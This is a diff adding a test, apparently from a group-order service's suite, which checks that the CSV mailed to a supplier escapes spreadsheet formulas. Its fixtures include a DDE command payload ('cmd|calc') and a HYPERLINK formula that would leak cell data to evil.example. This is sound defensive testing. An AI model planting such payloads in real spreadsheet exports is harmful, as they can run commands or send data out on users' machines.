@@ -464,6 +464,41 @@ describe('concurrency', () => {
 });
 
 describe('closing', () => {
+  it('mails the supplier a CSV in which no article or partner name runs as a formula', async () => {
+    // Prepare: names a partner or coordinator could type, each a live formula in a spreadsheet
+    await givenNetwork('csv1');
+    await updatePartner('csv1', 'csv1-p1', { name: '@SUM(1+1)*cmd|calc' });
+    await updatePartner('csv1', 'csv1-p2', { name: 'Tischlerei; Holz & Co' });
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Rabatt")';
+    const pool = await open('csv1', {
+      endAction: 'order_always',
+      article: { name: hyperlink, number: '+43-OSB', unit: '-Stk' },
+    });
+    await join('csv1', pool.id, 'csv1-p1', 30);
+    await join('csv1', pool.id, 'csv1-p2', 25);
+    // Act
+    const res = await close('csv1', pool.id);
+    // Assess
+    expect(res.status).toBe(200);
+    const [order] = (await mailsTo('orders@holz.example')).filter((x) =>
+      x.subject.includes(pool.id.toUpperCase()),
+    );
+    const csv = order!.attachments.find((a) => a.filename.endsWith('.csv'))!.content;
+    const ref = `PO-${pool.id.toUpperCase()}`;
+    const rows = csv.trim().split('\r\n');
+    expect(rows).toContain(
+      `${ref},'+43-OSB,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Rabatt"")",'-Stk,'@SUM(1+1)*cmd|calc,30,11.40,342.00`,
+    );
+    expect(rows).toContain(
+      `${ref},'+43-OSB,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Rabatt"")",'-Stk,"Tischlerei; Holz & Co",25,11.40,285.00`,
+    );
+    // no field of any row starts a formula
+    const fields = rows
+      .flatMap((r) => r.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
+      .map((f) => f.replace(/^"/, ''));
+    expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([]);
+  });
+
   it('allocates, mails the supplier an order with CSV and each partner its confirmation, and drops the schedule', async () => {
     // Prepare
     await givenNetwork('cl1');
